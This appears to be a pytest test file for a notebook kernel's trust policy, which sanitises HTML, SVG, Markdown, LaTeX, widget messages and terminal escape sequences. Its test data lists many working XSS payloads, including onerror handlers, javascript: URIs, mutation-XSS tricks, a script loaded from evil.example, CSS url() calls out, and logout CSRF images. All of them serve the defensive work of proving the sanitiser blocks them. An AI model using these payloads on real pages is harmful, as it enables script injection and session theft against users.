"""Trust: attacks and honest output, through the policy. Browsers have their own tests."""

from __future__ import annotations

import base64
import html
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hopx_kernel.trust import TextFilter, TrustPolicy, clean_text

SAFE, TRUSTED = TrustPolicy(), TrustPolicy(trusted=True)


class Page(HTMLParser):
    """What markup would do to the page that holds it; the content of frames is an attribute and not seen."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.acts: list[str] = []
        self.frames = 0
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "iframe":
            self.frames += 1
            if given.get("sandbox") != "allow-scripts" or "src" in given:
                self.acts.append("a frame that can reach the page")
            return
        if tag in ("script", "object", "embed", "form", "meta", "base", "link", "svg", "math", "input", "button"):
            self.acts.append(tag)
        for name, value in attrs:
            text = "".join((value or "").split()).lower()
            if name.startswith(("on", "data-")) or name in ("srcdoc", "formaction", "xlink:href"):
                self.acts.append(name)
            if text.startswith(("javascript:", "vbscript:")) or (name == "href" and text.startswith("data:")):
                self.acts.append(f"{name}={text[:20]}")
            if name == "style" and ("position" in text or "url(" in text):
                self.acts.append(text)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=/api/terminals method=post><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style='position:fixed;inset:0;z-index:99999'>log in</div>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='background:u\\72l(//evil.example/x)'>x</div>",
    "<div data-commandlinker-command='terminal:create-new'>click</div>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>body{display:none}</style>",
    "<style>.jp-Toolbar{display:none}</style>",
    "<style>.a{}</style><style>* {background:red}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<<script>alert(1)//<</script>",
    "<img src=`x`onerror=alert(1)>",
    "<x/onclick=alert(1)>click",
    "<p id=jupyter-config-data>{}</p>",
    "<textarea autofocus onfocus=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<title><img src=x onerror=alert(1)></title>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_does_not_reach_the_page(attack: str) -> None:
    data, _ = SAFE.bundle({"text/html": attack, "text/plain": "plain"}, {})
    assert Page(data["text/html"]).acts == []
    assert "jupyter-config-data" not in data["text/html"]
    assert data["text/plain"] == "plain"


@pytest.mark.parametrize("attack", ATTACKS)
def test_trusted_passes_everything(attack: str) -> None:
    bundle = {"text/html": attack, "application/javascript": "x"}
    assert TRUSTED.bundle(bundle, {}) == (bundle, {})


@given(st.text(alphabet="<>/'\"= `abcimgsvon:()&;#x-!\n", max_size=60))
def test_no_text_reaches_the_page_as_active_markup(text: str) -> None:
    data, _ = SAFE.bundle({"text/html": text}, {})
    assert Page(data["text/html"]).acts == []


@pytest.mark.parametrize(
    "markup",
    [
        "<b>bold</b>",
        '<table border="1" class="dataframe"><tbody><tr style="text-align: right"><th>a</th></tr></tbody></table>',
        '<progress style="width:60ex" max="10" value="3"></progress>',
        '<img src="data:image/png;base64,AAAA" width="10">',
        "<details><summary>more</summary><p>text</p></details>",
        '<style type="text/css">\n#T_1_row0_col0 {\n  color: red;\n}\n</style><table id="T_1"></table>',
        "<pre>a &lt; b</pre>",
        '<span style="color:rgb(1, 2, 3); font-weight:bold">x</span>',
        '<audio controls=""><source src="data:audio/wav;base64,AAAA" type="audio/wav"></audio>',
    ],
)
def test_inert_markup_passes_unchanged(markup: str) -> None:
    assert SAFE.bundle({"text/html": markup}, {})[0]["text/html"] == markup


def test_data_frame_keeps_its_looks() -> None:
    pandas = pytest.importorskip("pandas")
    markup = SAFE.bundle({"text/html": pandas.DataFrame({"a": [1]})._repr_html_()}, {})[0]["text/html"]
    assert "<iframe" not in markup and "only-of-type" in markup and 'class="dataframe"' in markup


def test_scripts_run_in_a_frame_of_their_own() -> None:
    source = '<div id="plot" style="height:450px"></div><script>draw("plot")</script>'
    markup = SAFE.bundle({"text/html": source}, {})[0]["text/html"]
    page = Page(markup)
    assert page.frames == 1 and page.acts == []
    assert "allow-same-origin" not in markup and "height:490px" in markup
    assert source in html.unescape(markup)
    assert "connect-src data: blob:" in html.unescape(markup)


def test_links_open_elsewhere_and_tell_nothing() -> None:
    markup = SAFE.bundle({"text/html": '<a href="https://example.com/">x</a><a href="/lab">y</a>'}, {})[0]["text/html"]
    assert 'href="https://example.com/"' in markup and "noopener" in markup and "/lab" not in markup


def drawn(inner: str, head: str = "") -> str:
    source = f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</svg>'
    data, _ = SAFE.bundle({"image/svg+xml": source}, {})
    assert list(data) == ["image/svg+xml"]
    return str(data["image/svg+xml"])


def test_inert_svg_passes() -> None:
    canonical = drawn('<style>.a{fill:red}</style><use xlink:href="#b"/><path class="a" d="M0 0"/>')
    for part in (".a{fill:red}", 'href="#b"', 'class="a" d="M0 0"', 'xmlns="http://www.w3.org/2000/svg"'):
        assert part in canonical


@pytest.mark.parametrize(
    ("inner", "head"),
    [
        ("<!-- <script>alert(1)</script> -->", ""),
        ("<?x ><img src=x onerror=alert(1)>?>", ""),
        ("", "<!DOCTYPE svg [<!NOTATION n SYSTEM '><img src=x onerror=alert(1)>'>]>"),
        ("<title><![CDATA[<img src=x onerror=alert(1)>]]></title>", ""),
    ],
)
def test_svg_that_reads_otherwise_as_html_is_written_anew(inner: str, head: str) -> None:
    canonical = drawn(f'{inner}<path d="M0 0"/>', head)
    assert "<img" not in canonical and "<script" not in canonical and "<path" in canonical


@pytest.mark.parametrize(
    "inner",
    [
        "<script>alert(1)</script>",
        '<path onclick="alert(1)"/>',
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
        '<a href="javascript:alert(1)"><path/></a>',
        '<use href="//evil.example/x.svg#a"/>',
        "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<p/><IFRAME srcdoc='&lt;script>alert(1)&lt;/script>'/>",
        "<animate attributeName='href' to='javascript:alert(1)'/>",
        "<style>* {display:none}</style>",
        '<path style="fill:url(//evil.example/x)"/>',
        "<unclosed>",
        '<image href="data:image/svg+xml,&lt;svg/&gt;"/>',
    ],
)
def test_svg_that_acts_becomes_an_image(inner: str) -> None:
    source = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'
    data, _ = SAFE.bundle({"image/svg+xml": source}, {})
    assert list(data) == ["text/html"] and data["text/html"].startswith('<img src="data:image/svg+xml;base64,')
    assert base64.b64decode(data["text/html"].split("base64,")[1].split('"')[0]).decode() == source
    assert Page(data["text/html"]).acts == []


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.bokehjs_exec.v0+json",
        "application/vnd.holoviews_load.v0+json",
        "Application/JavaScript",
    ],
)
def test_scripts_by_type_are_replaced_by_a_note(mime: str) -> None:
    data, _ = SAFE.bundle({mime: "alert(1)"}, {})
    assert list(data) == ["text/plain"] and "alert" not in data["text/plain"] and "trust" in data["text/plain"]
    assert SAFE.bundle({mime: "alert(1)", "text/plain": "shown"}, {})[0]["text/plain"] in ("shown", data["text/plain"])


@pytest.mark.parametrize(
    ("source", "safe"),
    [
        ("# Title\n\n> quote, *em* and a < b", "# Title\n\n> quote, *em* and a < b"),
        ("x <b>bold</b><br/>", "x <b>bold</b><br/>"),
        ("x <img src=x onerror=alert(1)>", "x &lt;img src=x onerror=alert(1)>"),
        ("</p><script>alert(1)</script>", "</p>&lt;script>alert(1)&lt;/script>"),
        ("<b onclick=alert(1)>", "&lt;b onclick=alert(1)>"),
        ("[x](javascript:alert(1))", None),
        ("[x](java&#115;cript:alert(1))", None),
        ("[x]: JaVa\nScRiPt:alert(1)", None),
        ("[x](data:text/html,x)", None),
        ("$\\href{javascript:alert(1)}{x}$", None),
        ("$\\require{html}$", None),
    ],
)
def test_markdown(source: str, safe: str | None) -> None:
    data, _ = SAFE.bundle({"text/markdown": source, "text/plain": "p"}, {})
    assert data.get("text/markdown") == safe and data["text/plain"] == "p"


@pytest.mark.parametrize(
    ("source", "safe"),
    [
        ("$x<y$", "$x< y$"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("$\\displaystyle x$", "$\\displaystyle x$"),
        ("$\\href{//x}{y}$", None),
        ('$\\mmlToken{mi}[href="javascript:alert(1)"]{x}$', None),
    ],
)
def test_latex(source: str, safe: str | None) -> None:
    assert SAFE.bundle({"text/latex": source, "text/plain": "p"}, {})[0].get("text/latex") == safe


@pytest.mark.parametrize(
    "bundle",
    [
        {"image/png": "AAAA"},
        {"application/json": {"a": [1]}},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
        {"application/vnd.plotly.v1+json": {"data": []}},
        {"application/papermill.record+json": {"a": 1}},
        {},
    ],
)
def test_data_passes_unchanged(bundle: dict[str, Any]) -> None:
    assert SAFE.bundle(bundle, {"image/png": {"width": 5}}) == (bundle, {"image/png": {"width": 5}})


# ---------------------------------------------------------------------- terminals


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("\x1b[1;31mred\x1b[0m", "\x1b[1;31mred\x1b[0m"),
        ("\x1b[2K\x1b[1A", "\x1b[2K\x1b[1A"),
        ("a\x1b]52;c;QUJD\x07b", "ab"),
        ("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\b", "alinkb"),
        ("a\x1bPq\x1b\\b", "aq\x1b\\b"),
        ("a\x1b[6nb\x1b[cd", "abd"),
        ("a\x1b[?1049hb", "ab"),
        ("a\x1bcb", "ab"),
        ("a\x9d52;c;QUJD\x9cb", "a52;c;QUJD\x9cb"),
    ],
)
def test_terminal_commands_are_taken_out(text: str, clean: str) -> None:
    assert clean_text(text) == clean


@given(st.lists(st.sampled_from(["a", "\x1b", "[", "]", "0", ";", "m", "n", "\x07", "\\", "é"]), max_size=30))
def test_filter_says_the_same_whole_and_in_pieces(pieces: list[str]) -> None:
    text_filter = TextFilter()
    pieced = "".join(text_filter.feed(piece) for piece in pieces) + text_filter.end()
    whole = TextFilter()
    assert pieced == whole.feed("".join(pieces)) + whole.end()


# ---------------------------------------------------------------------- widgets


def control(name: str, **state: Any) -> dict[str, Any]:
    module = "@jupyter-widgets/controls"
    names = {"_model_name": f"{name}Model", "_view_name": f"{name}View"}
    return {**names, "_model_module": module, "_view_module": module, **state}


def opened(state: dict[str, Any], comm_id: str = "c") -> dict[str, Any]:
    data, _ = SAFE.comm("comm_open", comm_id, {"state": state, "buffer_paths": []}, ())
    clean: dict[str, Any] = data["state"]
    return clean


def test_anywidget_s_module_is_replaced_by_a_notice() -> None:
    clean = opened({"_model_module": "anywidget", "_esm": "evil()", "value": 5})
    assert "evil" not in clean["_esm"] and "sandbox" in clean["_esm"] and clean["value"] == 5
    data, _ = SAFE.comm("comm_msg", "c", {"method": "update", "state": {"_esm": "evil()"}}, ())
    assert "evil" not in data["state"]["_esm"]


def test_html_widget_is_sanitised_when_opened_and_updated() -> None:
    clean = opened({"_model_name": "HTMLModel", "value": "<b>x</b><img src=x onerror=alert(1)>"}, "h")
    assert clean["value"] == '<b>x</b><img src="">' or Page(clean["value"]).acts == []
    data, _ = SAFE.comm("comm_msg", "h", {"method": "update", "state": {"value": "<script>alert(1)</script>y"}}, ())
    assert data["state"]["value"] == "y"


def test_text_widget_keeps_its_value() -> None:
    assert opened(control("Text", value="<b> & <script>"), "t")["value"] == "<b> & <script>"


def test_descriptions_are_text() -> None:
    assert opened({"description_allow_html": True, "description": "<img>"})["description_allow_html"] is False


def test_modules_of_unknown_packages_are_not_loaded() -> None:
    clean = opened({"_view_module": "evil-package", "_model_module": "@jupyter-widgets/controls"})
    assert clean["_view_module"] == "@jupyter-widgets/base"
    assert clean["_model_module"] == "@jupyter-widgets/controls"


def test_output_widget_s_outputs_are_made_harmless() -> None:
    outputs = [{"output_type": "display_data", "data": {"text/html": "<script>1</script>"}, "metadata": {}}]
    clean = opened({"_model_name": "OutputModel", "outputs": outputs})
    assert Page(clean["outputs"][0]["data"]["text/html"]).acts == []


def test_states_after_a_reload_are_made_harmless() -> None:
    states = {"a": {"model_name": "HTMLModel", "state": {"value": "<script>1</script>", "_esm": "evil()"}}}
    data, _ = SAFE.comm("comm_msg", "x", {"method": "update_states", "states": states}, ())
    assert data["states"]["a"]["state"]["value"] == "" and "evil" not in data["states"]["a"]["state"]["_esm"]


def test_odd_data_passes() -> None:
    for data in ({}, {"state": 5}, {"method": "custom", "content": {"a": 1}}, {"states": 7, "method": "update_states"}):
        assert SAFE.comm("comm_msg", "c", data, ())[0] == data
    assert TRUSTED.comm("comm_open", "c", {"state": {"_esm": "x"}}, ())[0] == {"state": {"_esm": "x"}}


EVIL = "<img src=x onerror=alert(1)>"


def test_value_is_cleaned_where_another_view_shows_it() -> None:
    for disguise in ({"_view_name": "HTMLView"}, {"_view_module": "@jupyter-widgets/base"}, {"_model_name": "X"}):
        assert "onerror" not in opened({**control("Text", value=EVIL), **disguise}, f"view {disguise}")["value"]
    opened(control("Text", value="x"), "later")
    data, _ = SAFE.comm("comm_msg", "later", {"method": "update", "state": {"_view_name": "HTMLView"}}, ())
    assert data["state"] == {}


def test_value_is_cleaned_after_the_states_named_another_model() -> None:
    opened(control("Text", value=EVIL), "renamed")
    states = {"renamed": {"model_name": "HTMLModel", "state": control("HTML", value="x")}}
    SAFE.comm("comm_msg", "control", {"method": "update_states", "states": states}, ())
    data, _ = SAFE.comm("comm_msg", "renamed", {"method": "update", "state": {"value": EVIL}}, ())
    assert "onerror" not in data["state"]["value"]


def test_list_as_a_value_is_cleaned() -> None:
    assert "onerror" not in str(opened(control("HTML", value=[EVIL, [EVIL]]), "list")["value"])


@pytest.mark.parametrize(
    ("kind", "source", "target", "stays"),
    [
        ("Link", ("IPY_MODEL_play", "value"), ("IPY_MODEL_slider", "value"), True),
        ("DirectionalLink", ("IPY_MODEL_slider", "value"), ("IPY_MODEL_label", "value"), True),
        ("Link", ("IPY_MODEL_text", "value"), ("IPY_MODEL_text", "value"), True),
        ("Link", ("IPY_MODEL_slider", "max"), ("IPY_MODEL_play", "max"), True),
        ("DirectionalLink", ("IPY_MODEL_text", "value"), ("IPY_MODEL_html", "value"), False),
        ("DirectionalLink", ("IPY_MODEL_text", "value"), ("IPY_MODEL_slider", "value"), False),
        ("DirectionalLink", ("IPY_MODEL_label", "value"), ("IPY_MODEL_html", "value"), False),
        ("Link", ("IPY_MODEL_html", "value"), ("IPY_MODEL_text", "value"), False),
        ("Link", ("IPY_MODEL_slider", "value"), ("IPY_MODEL_any", "_esm"), False),
        ("Link", ("IPY_MODEL_slider", "stuff"), ("IPY_MODEL_out", "outputs"), False),
        ("Link", ("IPY_MODEL_slider", "value"), "odd", False),
    ],
)
def test_link_joins_only_what_is_shown_alike(kind: str, source: Any, target: Any, stays: bool) -> None:
    for name, model in (("text", "Text"), ("label", "Label"), ("html", "HTML"), ("slider", "IntSlider")):
        opened(control(model), name)
    clean = opened({**control(kind), "_view_name": None, "source": source, "target": target}, f"{kind} {source}")
    assert (clean["source"] is not None) is stays and (clean["target"] is not None) is stays


def test_prototypes_are_not_reached() -> None:
    paths: list[Any] = [["__proto__", "x"], ["value"], ["a", "constructor", "b"], 5]
    state = {"__proto__": {"value": EVIL}, "deep": [{"__proto__": {}}]}
    data, buffers = SAFE.comm("comm_open", "p", {"state": state, "buffer_paths": paths}, (b"1", b"2", b"3", b"4"))
    assert data == {"state": {"deep": [{}]}, "buffer_paths": [["value"]]} and list(buffers) == [b"2"]


def test_page_fetches_no_code_by_module_or_version() -> None:
    clean = opened(
        {"_model_module": "anywidget-evil", "_view_module": "bqplot", "_view_module_version": "../../evil@1"}
    )
    assert clean["_model_module"] == "@jupyter-widgets/base" and clean["_view_module_version"] == "*"


def test_comm_targets_that_are_named_are_written_to_unchanged() -> None:
    policy = TrustPolicy(comm_targets=["mine"])
    data = {"method": "update", "state": {"_esm": EVIL}}
    assert policy.comm("comm_msg", "c", data, (b"1",), "mine") == (data, (b"1",))
    for target in ("jupyter.widget", "other"):
        assert EVIL not in str(policy.comm("comm_msg", "c", data, (), target))
    plain = {"kind": "point", "at": [1, 2], "buffer_paths": [["at"]]}
    assert policy.comm("comm_msg", "d", dict(plain), (b"1",), "other") == (plain, [b"1"])


def test_page_fetches_nothing_with_its_cookies() -> None:
    assert opened({"_model_name": "ImageModel", "format": "url"}, "image")["format"] == "png"
    assert "background" not in opened({"_model_name": "HTMLStyleModel", "background": "url(/logout)"}, "style")
    for markup in (
        "<img src=/logout>",
        "<img src=http://localhost/logout>",
        "<video poster=/logout>",
        "<img srcset=/x>",
    ):
        assert Page(SAFE.bundle({"text/html": markup}, {})[0]["text/html"]).frames == 1
    markdown = SAFE.bundle({"text/markdown": "![a](/logout) ![b](data:image/png;base64,AA)"}, {})[0]["text/markdown"]
    assert markdown == "[a](/logout) ![b](data:image/png;base64,AA)"


def test_types_and_sizes_that_nobody_knows_are_left_out() -> None:
    for mime in ("application/vnd.vega.v5+json", "application/geo+json", "text/vnd.mermaid", "x/y"):
        assert SAFE.bundle({mime: {"a": 1}, "text/plain": "p"}, {})[0] == {"text/plain": "p"}
    assert SAFE.bundle({"image/png": '" onerror="x', "text/plain": "p"}, {})[0] == {"text/plain": "p"}
    _, metadata = SAFE.bundle(
        {"image/png": "AA"}, {"image/png": {"width": "1 onerror=x", "height": "5px"}, "height": 5}
    )
    assert metadata == {"image/png": {"height": "5px"}, "height": 5}


@pytest.mark.parametrize(
    "sheet",
    [
        ":not(.z){color:red}",
        ".z:has(a){color:red}",
        "button:not(.z){color:red}",
        ".z{position:fixed}",
        ".z,p{color:red}",
    ],
)
def test_style_sheet_for_the_page_goes_into_a_frame(sheet: str) -> None:
    assert Page(SAFE.bundle({"text/html": f'<style>{sheet}</style><i class="z"></i>'}, {})[0]["text/html"]).frames == 1
